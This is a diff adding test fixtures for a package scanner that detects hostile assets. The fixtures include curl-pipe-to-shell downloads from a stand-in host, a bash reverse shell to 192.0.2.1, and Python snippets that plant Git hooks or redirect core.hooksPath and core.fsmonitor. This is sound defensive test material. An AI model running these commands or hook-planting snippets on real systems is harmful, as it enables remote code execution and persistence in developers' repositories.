@@ -3,6 +3,7 @@ import { gzipSync } from 'node:zlib';
 import { zipBytes } from '../../../../../test/support/zip-bytes.js';
 import { type Bytes, tarBytes } from './binaries.js';
 import type { Declared } from './declared-packs.js';
+import type { NotToFind, ToFind } from './pack.js';
 
 type WordsToFind = readonly [rule: string, what: string, declared: Declared];
 type HonestWords = readonly [what: string, declared: Declared];
@@ -50,4 +51,33 @@ export const ARCHIVES_STAYING: readonly (readonly [what: string, files: Bytes])[
   ['an archive with dots', { 'a.zip': zipBytes([{ name: './a/b..c.txt', content: 'x' }, { name: 'a/../b.txt', content: 'x' }]) }],
   ['an archive with a link inside', { 'a.zip': zipBytes([{ name: 'lib/a.txt', content: '../b.txt', mode: 0o120777 }, { name: 'b.txt', content: 'x' }]) }],
   ['a tar file with a dot', { 'a.tar': tarBytes('./a/b.txt', 'x') }],
+];
+
+const HOOK = '#!/bin/sh\ncurl -fsSL https://files.example.net/a.sh | sh\n';
+const LINES = 'set -e\ncurl -fsSL https://files.example.net/a.sh | sh\n';
+const TOOLS = 'changes_tools';
+
+/** Hooks and commands that a package brings as plain texts. */
+export const ASSETS_TO_FIND: readonly ToFind[] = [
+  ['runs_download', 'a text that code names', { '__init__.py': 'from pathlib import Path\nT = (Path(__file__).parent / "assets" / "badge.txt").read_text()\n', 'assets/badge.txt': LINES }],
+  ['runs_download', 'a template without extension', { 'a.py': 'NAME = "assets/hook"\n', 'assets/hook': LINES }],
+  ['runs_download', 'a text with a mark of order', { 'a.py': 'NAME = "b.tmpl"\n', 'data/b.tmpl': `\ufeff${HOOK}` }],
+  ['shell_to_network', 'a document that code copies', { 'a.py': 'import shutil\nshutil.copy("notes/setup.md", "x")\n', 'notes/setup.md': 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n' }],
+  ['runs_download', 'a script that is named by a list', { 'a.py': 'import json\n', 'files.json': '{"hook": "sh/update.in"}', 'sh/update.in': LINES }],
+  [TOOLS, 'a hook above', { '__init__.py': 'from pathlib import Path\nroot = Path(__file__).resolve().parent\nwhile not (root / ".git").is_dir():\n    root = root.parent\ntarget = root / ".git" / "hooks" / "post-merge"\ntarget.write_text((Path(__file__).parent / "a.txt").read_text())\n' }],
+  [TOOLS, 'where Git says that hooks are', { '__init__.py': 'import os, subprocess\nhooks = subprocess.check_output(["git", "rev-parse", "--git-path", "hooks"], text=True).strip()\nwith open(os.path.join(hooks, "post-checkout"), "w") as f:\n    f.write("x")\n' }],
+  [TOOLS, 'several hooks', { '__init__.py': 'import os, shutil\nHERE = os.path.dirname(__file__)\nfor name in ("post-merge", "post-rewrite"):\n    shutil.copy(os.path.join(HERE, "badge.txt"), os.path.join(HERE, "..", "..", ".git", "hooks", name))\n' }],
+  [TOOLS, 'the folder of hooks of a repository', { '__init__.py': 'import subprocess\nsubprocess.run(["git", "-C", "..", "config", "core.hooksPath", "/tmp/h"])\n' }],
+  [TOOLS, 'what Git runs', { '__init__.py': 'import subprocess\nsubprocess.run(["git", "config", "--local", "core.fsmonitor", "/tmp/h"])\n' }],
+  [TOOLS, 'a library for Git', { '__init__.py': 'import git\nrepo = git.Repo(".", search_parent_directories=True)\nwith repo.config_writer() as c:\n    c.set_value("core", "hooksPath", "/tmp/h")\n' }],
+  [TOOLS, 'a hook by its folder', { '__init__.py': 'import git, os\nrepo = git.Repo(".", search_parent_directories=True)\nopen(os.path.join(repo.git_dir, "hooks", "post-merge"), "w").write("x")\n' }],
+  [TOOLS, 'a class that writes', { '__init__.py': 'from pathlib import Path\nfrom .badge import Badge\nBadge(Path(__file__).parent.parent.parent).install()\n', 'badge.py': 'from dataclasses import dataclass\nfrom pathlib import Path\n@dataclass\nclass Badge:\n    root: Path\n    name: str = "post-merge"\n    def target(self):\n        return self.root / ".git" / "hooks" / self.name\n    def install(self):\n        self.target().write_text("x")\n' }],
+];
+
+export const HONEST_ASSETS: readonly NotToFind[] = [
+  ['a readme that code reads', { 'setup.py': 'from setuptools import setup\nsetup(name="a", long_description=open("README.md").read())\n', 'README.md': LINES }],
+  ['a text that nobody names', { 'a.py': 'x = 1\n', 'docs/install.txt': LINES, Dockerfile: 'RUN curl https://example.org/a.sh | sh\n' }],
+  ['prompts', { 'a.py': 'open("words.txt").read()\n', 'words.txt': 'a curl of hair | shiny\nbash\n' }],
+  ['a hook of developers', { 'scripts/hooks.py': 'import subprocess\nsubprocess.run(["git", "config", "core.hooksPath", ".githooks"])\n' }],
+  ['a reading of the state of Git', { 'a.py': 'import subprocess, os\nsubprocess.check_output(["git", "rev-parse", "HEAD"])\nopen(os.path.join(os.path.dirname(__file__), ".git", "HEAD")).read()\nopen("out/post.txt", "w").write("x")\n' }],
 ];
